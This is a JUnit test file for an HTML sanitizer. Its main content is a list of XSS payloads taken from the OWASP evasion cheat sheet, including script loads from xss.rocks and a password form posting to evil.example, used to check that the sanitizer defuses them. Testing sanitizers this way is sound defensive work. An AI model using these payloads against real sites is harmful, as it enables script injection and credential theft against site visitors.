package org.noticeboard.common;

import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.noticeboard.support.InertHtml.assertOnlySafeCss;
import static org.noticeboard.support.InertHtml.browserNormalised;
import static org.assertj.core.api.Assertions.assertThat;

class HtmlSanitizerTest {

    private static final String SITE_URL = "https://www.example.org";
    private static final String EXTERNAL_RELS = "noopener noreferrer";

    private static final Set<String> ALLOWED_ELEMENTS = Set.of(
            "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "b", "em", "i", "u", "s", "sub", "sup", "small",
            "blockquote", "q", "ul", "ol", "li", "a", "img", "figure", "figcaption", "table", "caption", "thead",
            "tbody", "tfoot", "tr", "th", "td", "code", "pre", "span", "div", "abbr", "cite");
    private static final Set<String> FORBIDDEN_ELEMENTS = Set.of(
            "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
            "select", "textarea", "svg", "math", "meta", "base", "link", "template", "noscript", "xmp", "video",
            "audio", "source", "details", "marquee", "title");

    private final HtmlSanitizer sanitizer = new HtmlSanitizer();

    // After the OWASP XSS Filter Evasion Cheat Sheet, plus mutation-XSS and content-hiding tricks.
    static Stream<String> hostileSnippets() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jav\tascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"&#14;javascript:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                        + "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049"
                        + "&#0000041\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
                        + "&#x28&#x31&#x29\">x</a>",
                "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
                "<a href=\"javascript&#58;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<a href=\"#\" onclick=\"alert(1)\">x</a>",
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<p onmouseover=\"alert(1)\">hover</p>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<body onload=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">CLICK</math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<iframe src=//evil.example></iframe>",
                "<iframe src=http://xss.rocks/scriptlet.html <",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<applet code=\"Evil.class\"></applet>",
                "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form>",
                "<input autofocus onfocus=alert(1)>",
                "<input type=\"image\" src=\"javascript:alert(1)\">",
                "<button formaction=\"javascript:alert(1)\">go</button>",
                "<select autofocus onfocus=alert(1)></select>",
                "<textarea autofocus onfocus=alert(1)></textarea>",
                "<isindex action=\"javascript:alert(1)\" type=image>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
                "<base href=\"https://evil.example/\">",
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<style>body{display:none}</style>",
                "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
                "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)></audio>",
                "<marquee onstart=alert(1)>scroll</marquee>",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                "<TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<blockquote cite=\"javascript:alert(1)\">quoted</blockquote>",
                "<img src=\"https://ok.example/a.png\" srcset=\"javascript:alert(1)\" alt=\"a\">",
                "<scr<script>ipt>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
                "<template><script>alert(1)</script></template>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
                "<a href=\"https://ok.example/\" style=\"display:block;position:absolute;top:0;left:0;z-index:9999\">"
                        + "overlay link</a>",
                "<p style=\"display:none\">hidden</p>",
                "<p style=\"visibility:hidden\">hidden</p>",
                "<p style=\"opacity:0\">hidden</p>",
                "<p style=\"z-index:9999\">on top</p>",
                "<p style=\"transform:scale(100)\">huge</p>",
                "<p style=\"font-size:0;color:transparent\">invisible</p>",
                "<p style=\"text-align:center;position:fixed;bottom:0\">mixed</p>",
                "<p style=\"text-align:center/*;*/;position:fixed\">comment trick</p>",
                "<div style=\"text-align: center; } body { display:none\">brace trick</div>",
                "<p style=\"background:url(javascript:alert(1))\">bg</p>",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">bg</DIV>",
                "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
                        + "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">esc</DIV>",
                "<p style=\"expression(alert(1))\">ie</p>",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">ie</DIV>",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<p style=\"font-weight:expression(alert(1))\">ie</p>",
                "<p style=\"-moz-binding:url(https://evil.example/xss.xml#xss)\">moz</p>",
                "<XSS STYLE=\"behavior: url(xss.htc);\">htc</XSS>",
                "<p style=\"text-decoration:url(javascript:alert(1))\">deco</p>");
    }

    @ParameterizedTest
    @MethodSource("hostileSnippets")
    void hostileMarkupIsDefused(String hostile) {
        String clean = sanitizer.sanitize(hostile, SITE_URL);
        Document document = Jsoup.parseBodyFragment(clean);

        for (String forbidden : FORBIDDEN_ELEMENTS) {
            assertThat(document.body().select(forbidden)).as("<%s> in %s", forbidden, clean).isEmpty();
        }
        for (Element element : document.body().getAllElements()) {
            if (element != document.body()) {
                assertThat(ALLOWED_ELEMENTS).as("element in %s", clean).contains(element.normalName());
            }
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey().toLowerCase(Locale.ROOT)).as("attribute in %s", clean)
                        .doesNotStartWith("on");
                assertThat(browserNormalised(attribute.getValue())).as("%s in %s", attribute.getKey(), clean)
                        .doesNotStartWith("javascript:")
                        .doesNotStartWith("vbscript:")
                        .doesNotStartWith("data:");
            }
            if (element.hasAttr("style")) {
                assertOnlySafeCss(element.attr("style"), clean);
            }
        }
        assertThat(sanitizer.sanitize(clean, SITE_URL)).as("second pass").isEqualTo(clean);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<p>Hello <strong>world</strong></p>",
            "<h2>Headlines</h2><ol><li>One</li></ol>",
            "<h3>Opening times</h3><p>Monday to <em>Friday</em>, <b>9</b> to <i>5</i>.</p>",
            "<h4>a</h4><h5>b</h5><h6>c</h6>",
            "<p>H<sub>2</sub>O and E = mc<sup>2</sup> <small>(roughly)</small> <u>under</u> <s>was £5</s></p>",
            "<p>Line one<br>Line two</p><hr><p>After the rule</p>",
            "<ul><li>Tea</li><li>Coffee</li></ul>",
            "<ul><li>Drinks<ul><li>Tea</li><li>Coffee<ol><li>Black</li><li>White</li></ol></li></ul></li>"
                    + "<li>Cake</li></ul>",
            "<ol start=\"3\"><li>Third</li><li>Fourth</li></ol>",
            "<table><caption>Rota</caption><thead><tr><th scope=\"col\">Day</th><th scope=\"col\">Who</th></tr>"
                    + "</thead><tbody><tr><td>Monday</td><td>Sam</td></tr><tr><td colspan=\"2\" rowspan=\"1\">"
                    + "Closed</td></tr></tbody><tfoot><tr><td>End</td><td></td></tr></tfoot></table>",
            "<img src=\"https://cdn.example.org/hall.jpg\" alt=\"The village hall\" width=\"640\" height=\"480\">",
            "<img src=\"/media/hall.jpg\" alt=\"The village hall\" title=\"Hall\">",
            "<figure><img src=\"https://cdn.example.org/hall.jpg\" alt=\"Hall\"><figcaption>The hall in 1920"
                    + "</figcaption></figure>",
            "<blockquote cite=\"https://www.example.org/minutes\"><p>We agreed to meet monthly.</p></blockquote>",
            "<p>She said <q>come along</q> in <cite>The Parish News</cite>.</p>",
            "<p><abbr title=\"Parochial Church Council\">PCC</abbr> meeting</p>",
            "<pre><code>if (open) {\n  welcome();\n}</code></pre>",
            "<div><p>Inside a div</p></div>",
            "<dl><dt>Venue</dt><dd>The village hall</dd><dt>Time</dt><dd>7pm</dd></dl>",
            "<p>Tickets <del>£5</del> <ins>£3</ins>; press <kbd>Ctrl</kbd>+<kbd>P</kbd> to print, it says "
                    + "<samp>Printed</samp>; <var>n</var> places left</p>",
            "<p><span style=\"font-weight:bold\">Bold span</span></p>",
            "<p style=\"text-align:center;font-style:italic;text-decoration:underline\">Centred</p>",
            "<p><a href=\"/services\">Our services</a> and <a href=\"https://www.example.org/news/x\">news</a></p>",
            "<p><a href=\"mailto:office@example.org\">Email</a> or <a href=\"tel:+441234567890\">phone</a></p>",
            "<p><a href=\"https://www.gov.uk/x\" title=\"GOV.UK\" rel=\"noopener noreferrer\">GOV.UK</a></p>",
            "<p>It’s a café “open” day – all welcome… naïve señor 😀</p>",
            "<p>Fish &amp; Chips &lt;£5&gt; at 1&nbsp;pm</p>",
    })
    void ordinaryContentIsKeptExactly(String html) {
        assertThat(sanitizer.sanitize(html, SITE_URL)).isEqualTo(html);
    }

    @Test
    void bareAmpersandsAndAngleBracketsAreEscaped() {
        assertThat(sanitizer.sanitize("<p>Fish & Chips</p>", SITE_URL)).isEqualTo("<p>Fish &amp; Chips</p>");
        assertThat(sanitizer.sanitize("<p>1 < 2 > 0</p>", SITE_URL)).isEqualTo("<p>1 &lt; 2 &gt; 0</p>");
    }

    @Test
    void entitiesForQuotesAndAccentsBecomePlainCharacters() {
        assertThat(sanitizer.sanitize("<p>It&#8217;s caf&eacute; &ldquo;open&rdquo; &#x1F600; &quot;x&quot; &#39;y&#39;</p>",
                SITE_URL)).isEqualTo("<p>It’s café “open” 😀 \"x\" 'y'</p>");
    }

    @Test
    void attributeValuesAreEscapedOnlyWhereNeeded() {
        assertThat(sanitizer.sanitize("<a href=\"/search?q=a+b&amp;page=2\" title=\"It's &quot;here&quot; – é\">s</a>",
                SITE_URL)).isEqualTo("<a href=\"/search?q=a+b&amp;page=2\" title=\"It's &quot;here&quot; – é\">s</a>");
    }

    @Test
    void scriptAndStyleContentIsDroppedNotShownAsText() {
        assertThat(sanitizer.sanitize("<p>Before</p><script>alert(1)</script><style>p{color:red}</style><p>After</p>",
                SITE_URL)).isEqualTo("<p>Before</p><p>After</p>");
    }

    @Test
    void unknownElementsAreUnwrappedKeepingTheirText() {
        assertThat(sanitizer.sanitize("<article><h1>Title</h1><font face=\"Arial\">Body</font></article>", SITE_URL))
                .isEqualTo("TitleBody");
        assertThat(sanitizer.sanitize("<section><p>Kept</p></section>", SITE_URL)).isEqualTo("<p>Kept</p>");
    }

    @Test
    void spansWithoutAttributesAreUnwrapped() {
        // A bare span means nothing; OWASP drops it (and bare links and images) rather than keep empty wrappers.
        assertThat(sanitizer.sanitize("<p><span>plain</span> <span class=\"MsoNormal\">pasted</span></p>", SITE_URL))
                .isEqualTo("<p>plain pasted</p>");
    }

    @Test
    void onlyTheSafeCssPropertiesSurvive() {
        assertThat(sanitizer.sanitize(
                "<p style=\"color:red;text-align:right;position:fixed;font-weight:bold;display:none;width:100%\">x</p>",
                SITE_URL)).isEqualTo("<p style=\"text-align:right;font-weight:bold\">x</p>");
        assertThat(sanitizer.sanitize("<p style=\"position:fixed;opacity:0\">x</p>", SITE_URL)).isEqualTo("<p>x</p>");
    }

    @Test
    void imagesWithoutAnAcceptableSourceAreDropped() {
        assertThat(sanitizer.sanitize("<p>a<img src=\"javascript:alert(1)\" alt=\"x\">b</p>", SITE_URL))
                .isEqualTo("<p>ab</p>");
        assertThat(sanitizer.sanitize("<p>a<img src=\"data:image/png;base64,iVBORw0KGgo=\">b</p>", SITE_URL))
                .isEqualTo("<p>ab</p>");
        assertThat(sanitizer.sanitize("<p>a<img src=\"mailto:a@example.org\" alt=\"x\">b</p>", SITE_URL))
                .isEqualTo("<p>ab</p>");
        assertThat(sanitizer.sanitize("<p>a<img alt=\"no source\">b</p>", SITE_URL)).isEqualTo("<p>ab</p>");
    }

    @Test
    void numericAttributesMustBeNumbers() {
        assertThat(sanitizer.sanitize("<img src=\"/a.png\" alt=\"a\" width=\"100%\" height=\"50\">", SITE_URL))
                .isEqualTo("<img src=\"/a.png\" alt=\"a\" height=\"50\">");
        assertThat(sanitizer.sanitize("<ol start=\"two\"><li>x</li></ol>", SITE_URL)).isEqualTo("<ol><li>x</li></ol>");
        assertThat(sanitizer.sanitize("<table><tbody><tr><td colspan=\"all\" rowspan=\"2\">x</td></tr></tbody></table>",
                SITE_URL)).isEqualTo("<table><tbody><tr><td rowspan=\"2\">x</td></tr></tbody></table>");
        assertThat(sanitizer.sanitize("<table><tbody><tr><th scope=\"everything\">x</th></tr></tbody></table>",
                SITE_URL)).isEqualTo("<table><tbody><tr><th>x</th></tr></tbody></table>");
    }

    @Test
    void blockquoteCiteMustBeAWebAddress() {
        assertThat(sanitizer.sanitize("<blockquote cite=\"mailto:a@example.org\">q</blockquote>", SITE_URL))
                .isEqualTo("<blockquote>q</blockquote>");
    }

    @Test
    void externalLinksGetNoopenerNoreferrer() {
        assertThat(sanitizer.sanitize("<a href=\"https://www.gov.uk/x\">link</a>", SITE_URL))
                .isEqualTo("<a href=\"https://www.gov.uk/x\" rel=\"noopener noreferrer\">link</a>");
        assertThat(relOf(sanitizer.sanitize("<a href=\"http://example.org/\">x</a>", SITE_URL)))
                .isEqualTo(EXTERNAL_RELS);
    }

    @Test
    void linksToTheSitesOwnHostGetNoRel() {
        assertThat(sanitizer.sanitize("<a href=\"https://www.example.org/news/x\">news</a>", SITE_URL))
                .isEqualTo("<a href=\"https://www.example.org/news/x\">news</a>");
        assertThat(relOf(sanitizer.sanitize("<a href=\"http://WWW.Example.ORG:8080/x\">x</a>", SITE_URL))).isEmpty();
    }

    @Test
    void relativeLinksGetNoRel() {
        assertThat(sanitizer.sanitize("<a href=\"/services\">services</a>", SITE_URL))
                .isEqualTo("<a href=\"/services\">services</a>");
        assertThat(relOf(sanitizer.sanitize("<a href=\"#top\">top</a>", SITE_URL))).isEmpty();
        assertThat(relOf(sanitizer.sanitize("<a href=\"news/x?page=2\">x</a>", SITE_URL))).isEmpty();
    }

    @Test
    void mailtoAndTelLinksGetNoRel() {
        assertThat(sanitizer.sanitize("<a href=\"mailto:office@example.org\">email</a>", SITE_URL))
                .isEqualTo("<a href=\"mailto:office@example.org\">email</a>");
        assertThat(sanitizer.sanitize("<a href=\"tel:+441234567890\">phone</a>", SITE_URL))
                .isEqualTo("<a href=\"tel:+441234567890\">phone</a>");
    }

    @Test
    void withoutASiteUrlEveryAbsoluteLinkGetsRel() {
        assertThat(relOf(sanitizer.sanitize("<a href=\"https://www.example.org/news/x\">x</a>", null)))
                .isEqualTo(EXTERNAL_RELS);
        assertThat(relOf(sanitizer.sanitize("<a href=\"http://www.gov.uk/\">x</a>", null))).isEqualTo(EXTERNAL_RELS);
        assertThat(relOf(sanitizer.sanitize("<a href=\"/services\">x</a>", null))).isEmpty();
        assertThat(relOf(sanitizer.sanitize("<a href=\"mailto:a@example.org\">x</a>", null))).isEmpty();
    }

    @Test
    void linksDisguisedAsTheSiteStillCountAsExternal() {
        // Each of these takes a browser to evil.example although the text mentions the site's host.
        assertThat(relOf(sanitizer.sanitize("<a href=\"https://www.example.org@evil.example/\">x</a>", SITE_URL)))
                .isEqualTo(EXTERNAL_RELS);
        assertThat(relOf(sanitizer.sanitize("<a href=\"//evil.example/www.example.org\">x</a>", SITE_URL)))
                .isEqualTo(EXTERNAL_RELS);
        assertThat(relOf(sanitizer.sanitize("<a href=\"https:\\\\evil.example\\www.example.org\">x</a>", SITE_URL)))
                .isEqualTo(EXTERNAL_RELS);
        assertThat(relOf(sanitizer.sanitize("<a href=\"https://www.example.org.evil.example/\">x</a>", SITE_URL)))
                .isEqualTo(EXTERNAL_RELS);
    }

    @Test
    void relFromTheInputIsReplacedNotTrusted() {
        assertThat(sanitizer.sanitize("<a href=\"/x\" rel=\"opener\">x</a>", SITE_URL)).isEqualTo("<a href=\"/x\">x</a>");
        assertThat(sanitizer.sanitize("<a href=\"https://evil.example/\" rel=\"opener\" target=\"_blank\">x</a>",
                SITE_URL)).isEqualTo("<a href=\"https://evil.example/\" rel=\"noopener noreferrer\">x</a>");
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(strings = {"", " ", "\n\t  "})
    void nullOrBlankInputGivesAnEmptyString(String html) {
        assertThat(sanitizer.sanitize(html, SITE_URL)).isEmpty();
        assertThat(sanitizer.sanitize(html, null)).isEmpty();
    }

    private static String relOf(String html) {
        Element link = Jsoup.parseBodyFragment(html).selectFirst("a");
        assertThat(link).as("link in %s", html).isNotNull();
        return link.attr("rel");
    }


}
